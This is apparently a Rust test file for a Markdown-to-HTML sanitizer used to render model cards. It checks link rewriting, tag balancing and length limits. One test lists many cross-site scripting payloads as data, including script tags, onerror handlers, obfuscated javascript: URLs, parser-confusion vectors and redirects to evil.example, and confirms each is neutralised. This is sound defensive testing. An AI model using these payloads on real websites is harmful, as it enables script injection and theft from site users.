use proptest::prelude::*;

use crate::{MAX_MARKDOWN_BYTES, Place, render, strict};

fn html(markdown: &str) -> String {
    let place = Place { pages: "/ada/bert/blob/main".to_owned(), files: "/ada/bert/resolve/main".to_owned() };
    render(markdown, &place).unwrap()
}

#[test]
fn the_dialect_is_that_of_cards() {
    let shown = html(
        "# A *model*\n\n| a | b |\n|---|--:|\n| 1 | `x<y` |\n\n- [x] done\n- [ ] not\n\n~~old~~ https://example.org/x\n\n\
         ```python\nprint(1 < 2)\n```\n\nA note[^1].\n\n[^1]: Indeed.\n\n> [!WARNING]\n> Hot\n\n\
         <div align=\"center\"><b>bold</b><br></div>\n<details open><summary>More</summary>\n\n*inner*\n\n</details>\n",
    );
    for expected in [
        "<h1 id=\"user-a-model\">A <em>model</em>",
        "href=\"#user-a-model\"",
        "<th align=\"right\">b</th>",
        "<code>x&lt;y</code>",
        "type=\"checkbox\"",
        "checked",
        "<del>old</del>",
        "href=\"https://example.org/x\"",
        "<pre tabindex=\"0\"><code><span class=\"hl-f\">print</span>(<span class=\"hl-n\">1</span> &lt; <span class=\"hl-n\">2</span>)\n</code></pre>",
        "aria-label=\"not done\"",
        "id=\"fn-1\"",
        "href=\"#fn-1\"",
        "class=\"markdown-alert markdown-alert-warning\"",
        "<div align=\"center\"><b>bold</b><br></div>",
        "<details open=\"\"><summary>More</summary>",
        "<em>inner</em>",
    ] {
        assert!(shown.contains(expected), "{expected} in\n{shown}");
    }
    assert_eq!(shown.matches("disabled").count(), 2, "{shown}");
    assert!(shown.find("<em>inner</em>") < shown.find("</details>"), "{shown}");
}

#[test]
fn links_and_pictures_lead_into_the_repo() {
    for (written, expected) in [
        ("[a](docs/x.md#top)", "href=\"/ada/bert/blob/main/docs/x.md#top\""),
        ("[a](./docs/../x.md)", "href=\"/ada/bert/blob/main/x.md\""),
        ("[a](../../../../login)", "href=\"/ada/bert/blob/main/login\""),
        ("[a](/datasets)", "href=\"/datasets\""),
        ("[a](#part)", "href=\"#user-part\""),
        ("[a](mailto:x@example.org)", "href=\"mailto:x@example.org\""),
        ("[a](https://example.org/?a=1&b=2)", "href=\"https://example.org/?a=1&amp;b=2\""),
        ("<a href=\"https://example.org/?a=1&amp;b=2\">a</a>", "href=\"https://example.org/?a=1&amp;b=2\""),
        ("<img src=\"/&amp;sol;example.org/x.png\">", "src=\"/&amp;sol;example.org/x.png\""),
        ("<a href=\"x&amp;colon;y\">a</a>", "href=\"/ada/bert/blob/main/x&amp;colon;y\""),
        ("<a name=part></a>", "<a id=\"user-part\"></a>"),
        ("![plot](img/a%20b.png)", "src=\"/ada/bert/resolve/main/img/a%20b.png\""),
        ("<img src=\"plot.svg\" width=\"300\">", "src=\"/ada/bert/resolve/main/plot.svg\""),
        ("![plot](/ada/other/resolve/main/x.png)", "src=\"/ada/other/resolve/main/x.png\""),
    ] {
        let shown = html(written);
        assert!(shown.contains(expected), "{written}: {expected} in\n{shown}");
    }
    for (written, expected) in [
        ("![x](https://example.org/spy.png)", "<a href=\"https://example.org/spy.png\">x</a>"),
        ("[![x](https://example.org/spy.png)](y)", "<a href=\"/ada/bert/blob/main/y\"><em>x</em></a>"),
        ("![x](//example.org/spy.png)", "<a href=\"//example.org/spy.png\">x</a>"),
        ("![x](data:image/png;base64,AAAA)", "<em>x</em>"),
        ("a <img src=\"/\\example.org/spy.png\" alt=\"x\">", "a <em>x</em>"),
        ("a <img src=\"/\t/example.org/spy.png\">", "a <em>picture</em>"),
        ("a <img src=\"&#104;ttps://example.org/spy.png\">", "a <em>picture</em>"),
        ("a <img src=\"data:image/png;base64,AAAA\">", "a <em>picture</em>"),
    ] {
        let shown = html(written);
        assert!(shown.contains(expected) && !shown.contains("src="), "{written}: {expected} in {shown}");
    }
}

#[test]
fn what_is_opened_in_one_place_is_closed_there() {
    for (written, expected) in [
        ("<div>\n\ntext\n", "<div>\n<p>text</p>\n</div>"),
        ("- <div>\n\n  text\n\noutside</div>", "</div></li>\n</ul>\n<p>outside</p>"),
        ("a <b>b <i>c</b> d</i> e", "<p>a <b>b <i>c</i></b> d e</p>"),
        ("</div></main>x", "x"),
        ("a <b", "<p>a &lt;b</p>"),
        ("<table><tr><td>x</table>", "<table><tr><td>x</td></tr></table>"),
        ("<p>a<script>if (a < b) { c }</script>b</p>", "<p>ab</p>"),
        ("<div>1 < 2 &amp; 3</div>", "<div>1 &lt; 2 &amp; 3</div>"),
        ("<div title='\"x\"><b>'>y</div>", "<div title=\"&quot;x&quot;&gt;&lt;b&gt;\">y</div>"),
    ] {
        let shown = html(written);
        assert!(shown.contains(expected), "{written}: {expected:?} in {shown:?}");
    }
}

fn check(markdown: &str) {
    assert!(check_or_refuse(markdown), "refused: {markdown}");
}

fn check_or_refuse(markdown: &str) -> bool {
    let place = Place { pages: "/a/b/blob/main".to_owned(), files: "/a/b/resolve/main".to_owned() };
    let shown = render(markdown, &place);
    if let Some(shown) = &shown {
        strict::read(shown).unwrap_or_else(|problem| panic!("{problem}\nin {shown}\nfrom {markdown}"));
    }
    shown.is_some()
}

#[test]
fn nothing_that_runs_comes_out() {
    for payload in [
        "<script>alert(1)</script>",
        "<ScRiPt/src=//evil.example></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x`\" `<script>alert(1)</script>\"` `>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](y)",
        "[x](y \"z\\\" onclick=\\\"alert(1)\")",
        "<javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"/logout\" method=post><button>x</button></form>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<link rel=stylesheet href=//evil.example>",
        "<style>@import '//evil.example';</style>",
        "<div style=\"background:url(//evil.example)\">x</div>",
        "<details ontoggle=alert(1) open>x</details>",
        "<video src=x onerror=alert(1)></video>",
        "<input type=image src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<table background=\"javascript:alert(1)\"><td>x</td></table>",
        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml><img src=x onerror=alert(1)>?>",
        "```\"><img src=x onerror=alert(1)>\nx\n```",
        "# <img src=x onerror=alert(1)>",
        "[^<img src=x onerror=alert(1)>]: x\n\n[^<img src=x onerror=alert(1)>]",
        "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    ] {
        check(payload);
    }
}

#[test]
fn any_length_and_depth_comes_to_an_end() {
    let place = Place { pages: String::new(), files: String::new() };
    for (piece, times) in [("x", MAX_MARKDOWN_BYTES + 1), ("> ", 20_000)] {
        assert!(render(&piece.repeat(times), &place).is_none(), "{piece}");
    }
    // Each of these takes some parser of Markdown or HTML time with the square of its length.
    for piece in [
        "<div>",
        "<br>",
        "<b>x</b>",
        "- x\n",
        "[",
        "*a **b ",
        "![](",
        "`",
        "|a",
        "&#",
        "&",
        "<a href=",
        "[^1]: x\n",
        "<!--",
        "<b",
        "<b><p>x</p>",
        "</b>",
        "<script>",
        "<svg></",
        "[a](",
        "a@b.",
        "www.",
        "~~",
        "\\",
        "[x]: y\n",
    ] {
        check_or_refuse(&piece.repeat(100_000 / piece.len()));
    }
}

proptest! {
    #[test]
    fn nothing_that_runs_comes_out_of_anything(markdown in "([<>\"'=/ \n\\[\\]()!#`*]|on|script|img|src|svg|style|javascript:|&#106;|[a-z]){0,60}") {
        check(&markdown);
    }
}
